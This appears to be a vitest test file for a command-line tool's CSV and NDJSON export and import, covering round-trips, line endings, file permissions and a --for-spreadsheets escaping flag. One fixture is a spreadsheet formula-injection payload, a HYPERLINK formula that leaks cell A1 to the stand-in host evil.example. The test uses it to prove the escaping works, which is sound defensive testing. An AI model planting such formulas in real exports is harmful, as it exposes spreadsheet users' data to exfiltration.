import { readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { packageRoot } from "../../prisma/package-root.js";
import { createTestDatabase } from "../support/database.js";
import { TEST_SECRET } from "../support/factories.js";
import { spawnNode } from "../support/processes.js";
import { commandsWith } from "../support/run-in-process.js";
import { makeRows, openImporter, unchanged } from "./importer.js";

const UUID = /[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}/g;

const { env, folder, importJson, importRows } = await openImporter();
const commands = commandsWith(env);

test("an export writes to standard output, from which an import reads with -", async () => {
  await importRows(makeRows().ana);
  const cli = join(packageRoot(), "dist/main.js");
  const script = '"$0" "$1" export | head -1; "$0" "$1" export | "$0" "$1" import - --format csv --json';
  const { stdout, stderr } = await spawnNode([cli], {
    env: { ...env, APP_SECRETS: TEST_SECRET },
    commandPrefix: ["sh", "-c", script],
  }).done;
  expect(stderr).toBe("");
  const [header, summary = ""] = stdout.split("\n");
  expect(header).toMatch(/^type,externalId,id,email,name,title,/);
  expect(JSON.parse(summary)).toMatchObject({ users: { created: 0, updated: 0 } });
  expect(await commands.failure("export", "--json")).toEqual([2, "--json requires --output."]);
});

test.each(["csv", "ndjson"])(
  "an export writes a %s file that an import into the same database leaves unchanged, and another database becomes equal to",
  async (format) => {
    const { ana, ben, loft, owns, reads, id } = makeRows();
    const optional = { district: "-a", allowPets: false, language: "pt-BR" };
    const odd = { ...loft, externalId: `=${id}`, title: '=1+1 "ü", x', ...optional };
    await importRows(ana, ben, loft, odd, owns, reads);
    const output = join(folder, `out.${format}`);
    const { users, listings, memberships } = await commands.json("export", "--output", output);
    expect(await importJson(output)).toEqual({
      dryRun: false,
      users: unchanged(users),
      listings: unchanged(listings),
      memberships: unchanged(memberships),
    });

    const other = commandsWith({ DATABASE_URL: (await createTestDatabase()).url });
    await other.text("import", output);
    const copy = join(folder, `copy.${format}`);
    await other.text("export", "--output", copy);
    const sorted = (path: string) => readFileSync(path, "utf8").replaceAll(UUID, "ID").split("\n").sort();
    expect(sorted(copy)).toEqual(sorted(output));
    expect(readFileSync(output, "utf8")).toContain((await commands.json("users", "show", ana.externalId)).id);
    expect(statSync(output).mode & 0o777).toBe(0o600);
  },
);

test("an export has no carriage returns, and an import reads it with CRLF too", async () => {
  const { ana, loft, owns } = makeRows();
  await importRows(ana, loft, owns);
  const output = join(folder, "lf.csv");
  const { users, listings, memberships } = await commands.json("export", "--output", output);
  const text = readFileSync(output, "utf8");
  expect(text).not.toContain("\r");
  writeFileSync(output, text.replaceAll("\n", "\r\n"));
  const counts = { users: unchanged(users), listings: unchanged(listings), memberships: unchanged(memberships) };
  expect(await importJson(output)).toEqual({ dryRun: false, ...counts });
});

describe("--for-spreadsheets", () => {
  test("an export with it has an apostrophe before =, +, - and @ at the start of a cell, and quotes around other separators", async () => {
    const { loft, ana, id } = makeRows();
    const formula = '=HYPERLINK("https://evil.example?"&A1,"click")';
    const odd = { ...loft, externalId: `-${id}`, title: formula, address: "+1", city: "@x", district: "a;=1" };
    await importRows({ ...ana, externalId: `@${id}`, name: "A-1" }, odd, { ...loft, title: "A=1" });
    const output = join(folder, "sheet.csv");
    await commands.text("export", "--for-spreadsheets", "--output", output);
    const lines = readFileSync(output, "utf8").split("\n");
    expect(lines.find((line) => line.includes(`'@${id},`))).toContain(",A-1,");
    expect(lines.find((line) => line.includes(`listing,'-${id},`))).toContain(
      `"'=HYPERLINK(""https://evil.example?""&A1,""click"")",'+1,'@x,`,
    );
    expect(lines.find((line) => line.includes(`listing,'-${id},`))).toContain(',"a;=1",');
    expect(lines.find((line) => line.startsWith(`listing,${loft.externalId},`))).toContain(",A=1,");
    await commands.text("export", "--output", output);
    expect(readFileSync(output, "utf8")).toContain(`listing,-${id},`);
  });

  test.each([
    ["--format", "ndjson"],
    ["--output", "x.ndjson"],
  ])("with %s %s it is a usage error", async (...args) => {
    const message = "--for-spreadsheets writes CSV: remove it, or choose this format.";
    expect(await commands.failure("export", "--for-spreadsheets", ...args)).toEqual([2, message]);
  });
});
